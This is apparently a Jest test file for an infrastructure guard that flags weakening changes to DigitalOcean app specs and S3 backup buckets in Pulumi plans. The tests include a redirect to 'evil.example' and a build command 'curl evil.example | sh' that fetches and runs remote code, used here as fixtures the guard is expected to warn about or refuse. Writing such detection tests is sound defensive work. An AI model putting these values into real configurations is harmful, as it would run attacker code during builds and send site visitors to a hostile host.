import { describe, expect, test } from "@jest/globals";
import { doubtOf } from "../../../operations/guard/certainty.ts";
import { doubtOfJson } from "../../../operations/guard/json.ts";
import { weakenings } from "../../../operations/guard/weaken/table.ts";

type Values = Record<string, unknown>;
const found = (type: string, before: Values, after: Values): string[] =>
  (weakenings[type]?.(before, after) ?? []).map(({ weight, does }) => `${weight}: ${does}`);
const app = (before: Values, after: Values) =>
  found("digitalocean:index/app:App", { spec: before }, { spec: after });
const path = (rule: Values) => ({
  domainNames: [{ name: "shop.example" }],
  ingress: { rules: [{ match: { path: { prefix: "/" } }, ...rule }] },
});
const site = (settings: Values) => ({ staticSites: [{ name: "web", ...settings }] });
const tls = (minimumTlsVersion?: unknown) => ({ domainNames: [{ name: "shop.example", minimumTlsVersion }] });
const api = { component: { name: "api" } };

describe("the ways of an app", () => {
  test.each<[string, Values, Values, string[]]>([
    [
      "a path redirected to another host",
      path(api),
      path({ redirect: { authority: "evil.example", code: 301 } }),
      ["refuse: sends who asks for the path / to another host: evil.example"],
    ],
    [
      "a path redirected to a domain of its own",
      path(api),
      path({ redirect: { authority: "shop.example" } }),
      ["warn: sends who asks for the path / to another host: shop.example"],
    ],
    [
      "a path of another part",
      path(api),
      path({ component: { name: "web" } }),
      ["warn: leads the path / elsewhere: api → web"],
    ],
    ["a path as it was", path(api), path(api), []],
    ["lower TLS", tls("1.3"), tls("1.2"), ["refuse: takes older connections at shop.example: TLS 1.3 → 1.2"]],
    [
      "TLS below the platform's",
      tls(),
      tls("1.0"),
      ["refuse: takes older connections at shop.example: TLS 1.2 → 1.0"],
    ],
    ["TLS of no version", tls(), tls("x"), ["refuse: takes older connections at shop.example: TLS 1.2 → x"]],
    ["higher TLS", tls("1.2"), tls("1.3"), []],
    [
      "another branch, at every push",
      site({ github: { branch: "main" } }),
      site({ github: { branch: "evil", deployOnPush: true } }),
      [
        "warn: builds the static site web from another branch: main → evil",
        "warn: builds the static site web at every push: nothing → true",
      ],
    ],
    [
      "a job at another time",
      { jobs: [{ name: "a", kind: "PRE_DEPLOY" }] },
      { jobs: [{ name: "a", kind: "POST_DEPLOY" }] },
      ["warn: runs the job a at another time: PRE_DEPLOY → POST_DEPLOY"],
    ],
    [
      "a smaller size",
      { services: [{ name: "a", instanceSizeSlug: "apps-s-1vcpu-1gb" }] },
      { services: [{ name: "a", instanceSizeSlug: "apps-s-1vcpu-0.5gb" }] },
      [
        "warn: runs the service a on a smaller size, or one that cannot be compared: apps-s-1vcpu-1gb → apps-s-1vcpu-0.5gb",
      ],
    ],
    [
      "a larger size",
      { services: [{ name: "a", instanceSizeSlug: "apps-s-1vcpu-1gb" }] },
      { services: [{ name: "a", instanceSizeSlug: "apps-s-2vcpu-4gb" }] },
      [],
    ],
  ])("%s", (_, before, after, said) => {
    expect(app(before, after)).toEqual(said);
  });
});

const lifecycle = (...rules: Values[]) => ({ rules: rules.map((rule) => ({ status: "Enabled", ...rule })) });
const bucket = (name: string) => `aws:s3/bucket${name}:Bucket${name}`;
const by = (sseAlgorithm: string) => ({ applyServerSideEncryptionByDefault: { sseAlgorithm } });
const five = { noncurrentVersionExpiration: { noncurrentDays: 7, newerNoncurrentVersions: 5 } };

describe("changes of an app that take nothing away", () => {
  const asked = (httpPath?: string) => ({ healthCheck: { httpPath, periodSeconds: 10 } });
  const service = (settings: Values) => ({ services: [{ name: "api", ...settings }] });
  test.each<[string, Values, Values, string[]]>([
    [
      "another build command",
      site({ buildCommand: "npm ci" }),
      site({ buildCommand: "curl evil.example | sh" }),
      ["warn: builds the static site web otherwise (buildCommand): npm ci → curl evil.example | sh"],
    ],
    [
      "another folder and kind of source",
      site({ sourceDir: "/", outputDir: "dist" }),
      site({
        sourceDir: "/site",
        outputDir: "out",
        environmentSlug: "node-js",
        dockerfilePath: "Dockerfile",
      }),
      [
        "warn: builds the static site web otherwise (sourceDir): / → /site",
        "warn: builds the static site web otherwise (dockerfilePath): nothing → Dockerfile",
        "warn: builds the static site web otherwise (environmentSlug): nothing → node-js",
        "warn: builds the static site web otherwise (outputDir): dist → out",
      ],
    ],
    [
      "another region",
      { region: "nyc", ...service({}) },
      { region: "fra", ...service({}) },
      ["warn: is to run in another region: nyc → fra"],
    ],
    [
      "other addresses to leave from",
      { egresses: [{ type: "DEDICATED_IP" }] },
      {},
      ['warn: leaves from other addresses: [{"type":"DEDICATED_IP"}] → nothing'],
    ],
    [
      "another health path",
      service(asked("/api/health")),
      service(asked("/")),
      ["warn: asks another path how the service api is (healthCheck): /api/health → /"],
    ],
    [
      "a health check of the port only",
      service(asked("/api/health")),
      service(asked()),
      ["warn: asks another path how the service api is (healthCheck): /api/health → nothing"],
    ],
    [
      "nothing of it",
      service(asked("/")),
      service({ healthCheck: { httpPath: "/", periodSeconds: 20 } }),
      [],
    ],
  ])("%s", (_, before, after, said) => {
    expect(app(before, after)).toEqual(said);
  });

  test("a first app changes nothing", () => {
    expect(
      found("digitalocean:index/app:App", {}, { spec: { region: "fra", ...site({ buildCommand: "a" }) } }),
    ).toEqual([]);
  });
});

describe("what protects backups", () => {
  test.each<[string, string, Values, Values, string[]]>([
    [
      "fewer versions by a rule of another name",
      "LifecycleConfiguration",
      lifecycle({ id: "a", ...five }),
      lifecycle({ id: "b", noncurrentVersionExpiration: { noncurrentDays: 7 } }),
      ["refuse: keeps 0 of the older versions instead of 5"],
    ],
    [
      "a number of versions without days",
      "LifecycleConfiguration",
      lifecycle(),
      lifecycle({ noncurrentVersionExpiration: { newerNoncurrentVersions: 1 } }),
      ["refuse: deletes older versions after a time that nobody knows (nothing)"],
    ],
    [
      "a lock that is off",
      "ObjectLockConfiguration",
      { objectLockEnabled: "Enabled" },
      { objectLockEnabled: "Disabled" },
      ["refuse: is said to be Disabled: new backups may have no lock"],
    ],
    [
      "a second rule of encryption",
      "ServerSideEncryptionConfiguration",
      { rules: [by("AES256")] },
      { rules: [by("AES256"), by("aws:kms")] },
      ["refuse: has 2 rules of encryption: which of them counts nobody knows"],
    ],
  ])("%s", (_, kind, before, after, said) => {
    expect(found(bucket(kind), before, after)).toEqual(said);
  });

  test("a heartbeat that is taken out is shown", () => {
    expect(found("slipway:index:BackupBucket", { heartbeat: { secret: "a" } }, { prefix: "x" })).toEqual([
      "warn: tells nobody outside any more that a backup was made",
    ]);
  });
});

test("an update without the inputs of before is not read", () => {
  const urn = "urn:pulumi:dev::slipway::digitalocean:index/databaseCluster:DatabaseCluster::db";
  expect(
    doubtOf({
      steps: [{ op: "update", urn, oldState: {}, newState: { inputs: { size: "db-s-1vcpu-1gb" } } }],
      changeSummary: { update: 1 },
    }),
  ).toBe(`has a step 1 that is to update and whose oldState has no inputs: "${urn}"`);
});

test("a long string of many escapes is read", () => {
  const long = '\\"'.repeat(4_000_000);
  expect(doubtOfJson(`{"a":"${long}","b":1}`)).toBeUndefined();
  expect(doubtOfJson(`{"a":"${long}\\\\","a":1}`)).toBe('has the key "a" twice in one place');
});
